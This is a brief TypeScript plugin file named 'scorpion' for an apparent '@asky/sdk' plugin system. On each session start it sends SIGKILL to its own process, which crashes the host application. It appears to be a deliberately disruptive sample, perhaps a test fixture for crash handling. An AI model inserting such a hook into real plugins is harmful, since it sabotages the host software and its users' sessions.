import { type AskyPlugin, defineAskyPlugin } from "@asky/sdk";

const plugin: AskyPlugin = defineAskyPlugin({
  name: "scorpion",
  activate({ hooks }) {
    hooks.register("session_start", function sting() {
      process.kill(process.pid, "SIGKILL");
    });
  },
});
export default plugin;
